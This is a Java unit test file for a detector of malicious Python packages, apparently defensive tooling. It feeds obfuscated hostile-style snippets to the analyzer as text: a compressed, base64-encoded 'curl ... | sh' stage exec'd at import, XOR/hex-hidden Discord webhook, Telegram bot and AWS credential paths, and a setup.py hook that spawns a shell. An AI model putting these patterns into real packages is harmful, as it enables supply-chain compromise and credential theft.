package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static dev.fang.featurize.features.Fixtures.pkg;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;

/**
 * Through the production analyzer: obfuscated malicious-style snippets are seen through, and benign code
 * that uses the same modules innocently is not flagged. Every snippet is text; nothing runs.
 */
class EndToEndTest {

    static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();

    static final String STAGE = "import os\nos.system('curl -s http://185.62.13.77/s | sh')\n";

    static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    static byte[] zlib(String s) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream z = new DeflaterOutputStream(out, new Deflater(9))) {
            z.write(s.getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    static FeatureResult run(String file, String code) {
        FeatureResult r = FEATURIZER.featurize(pkg(file, code));
        assertThat(r.partial()).as("partial: %s", r.notes()).isFalse();
        return r;
    }

    @Test
    void apiObfuscationIsResolved() {
        FeatureResult r = run("demo/__init__.py", lines(
                "f = getattr(__import__('o' + 's'), ''.join(['sy', 'st', 'em']))",
                "f('id')"));
        assertThat(r.value("import_api_cmd_shell")).isEqualTo(1);
        assertThat(r.value("import_modlevel_command")).isEqualTo(1);
        assertThat(r.value("import_apiobf_getattr")).isEqualTo(1);
        assertThat(r.value("import_apiobf_dynamic_import")).isEqualTo(1);
        assertThat(r.value("import_apiobf_only_hidden")).isPositive();
        FamilyFixturesTest.assertEvidence(r, "import_api_cmd_shell", "demo/__init__.py", 2);
    }

    @Test
    void compressedBase64PayloadIsDecodedAndJudged() throws Exception {
        String blob = b64(zlib(STAGE));
        FeatureResult r = run("demo/__init__.py", lines(
                "import zlib, base64",
                "exec(zlib.decompress(base64.b64decode('" + blob + "')))"));
        assertThat(r.value("import_dec_payloads")).isEqualTo(1);
        assertThat(r.value("import_obf_compression")).isPositive();
        assertThat(r.value("import_obf_decode_chains")).isPositive();
        assertThat(r.value("import_dec_exec_apis")).isEqualTo(1);
        assertThat(r.value("import_dec_ips")).isEqualTo(1);
        assertThat(r.value("import_sus_download_exec")).isPositive();
        assertThat(r.value("import_dec_suspicious")).isPositive();
        assertThat(r.value("import_beh_obfuscated_execution")).isEqualTo(1);
        assertThat(r.evidenceFor("import_dec_exec_apis")).anySatisfy(e -> {
            assertThat(e.getLine()).isEqualTo(2);
            assertThat(e.getDecoded()).contains("os.system");
        });
    }

    @Test
    void xorHexAndByteArrayStringsAreDecoded() {
        String url = "https://discord.com/api/webhooks/42/secret";
        StringBuilder xs = new StringBuilder();
        for (char c : url.toCharArray()) {
            if (xs.length() > 0) {
                xs.append(", ");
            }
            xs.append(c ^ 42);
        }
        String hex = HexFormat.of().formatHex("~/.aws/credentials".getBytes(StandardCharsets.US_ASCII));
        StringBuilder ints = new StringBuilder();
        for (char c : "api.telegram.org/bot".toCharArray()) {
            if (ints.length() > 0) {
                ints.append(", ");
            }
            ints.append((int) c);
        }
        FeatureResult r = run("demo/m.py", lines(
                "import binascii",
                "W = ''.join(chr(c ^ 42) for c in [" + xs + "])",
                "P = binascii.unhexlify('" + hex + "').decode()",
                "T = bytes([" + ints + "]).decode()"));
        assertThat(r.value("import_obf_xor")).isPositive();
        assertThat(r.value("import_obf_hex")).isPositive();
        assertThat(r.value("import_obf_byte_arrays")).isPositive();
        assertThat(r.value("import_sus_exfil_services")).isEqualTo(2);
        assertThat(r.value("import_sus_credentials")).isEqualTo(1);
        assertThat(r.value("import_dec_suspicious")).isEqualTo(3);
        assertThat(r.evidenceFor("import_dec_suspicious")).anySatisfy(e -> assertThat(e.getDecoded()).contains("discord.com"));
    }

    @Test
    void installHookThroughTheRealAnalyzer() {
        FeatureResult r = run("demo-1.0/setup.py", lines(
                "from setuptools import setup",
                "from setuptools.command.develop import develop as _develop",
                "import subprocess",
                "class Dev(_develop):",
                "    def run(self):",
                "        subprocess.Popen(['sh', '-c', 'id'])",
                "        _develop.run(self)",
                "setup(name='demo', cmdclass={'develop': Dev})"));
        assertThat(r.value("install_hook_cmdclass")).isEqualTo(1);
        assertThat(r.value("install_hook_develop_subclasses")).isEqualTo(1);
        assertThat(r.value("install_hook_run_overrides")).isEqualTo(1);
        assertThat(r.value("install_api_cmd_process")).isEqualTo(1);
        assertThat(r.value("install_modlevel_command")).isZero();
        FamilyFixturesTest.assertEvidence(r, "install_hook_develop_subclasses", "demo-1.0/setup.py", 4);
    }

    @Test
    void benignLookAlikesStayQuiet() {
        FeatureResult r = run("demo/util.py", lines(
                "import zlib, base64, json, getpass",
                "def pack(obj):",
                "    return base64.b64encode(zlib.compress(json.dumps(obj).encode()))",
                "def unpack(blob):",
                "    return json.loads(zlib.decompress(base64.b64decode(blob)))",
                "class Config:",
                "    def get(self, name):",
                "        return getattr(self, name, None)",
                "HELP = 'Store your key in ~/.config/demo.toml; see https://demo.readthedocs.io'"));
        for (Family fam : new Family[] {Family.BEHAVIOURS, Family.DECODED, Family.SUSPICIOUS_STRINGS,
            Family.API_OBFUSCATION, Family.HOOKS, Family.MODULE_LEVEL}) {
            for (Feature f : FeatureCatalogue.family(fam)) {
                assertThat(r.value(f.name())).as(f.name()).isZero();
            }
        }
        assertThat(r.value("import_api_enc_base")).isEqualTo(2);
    }
}
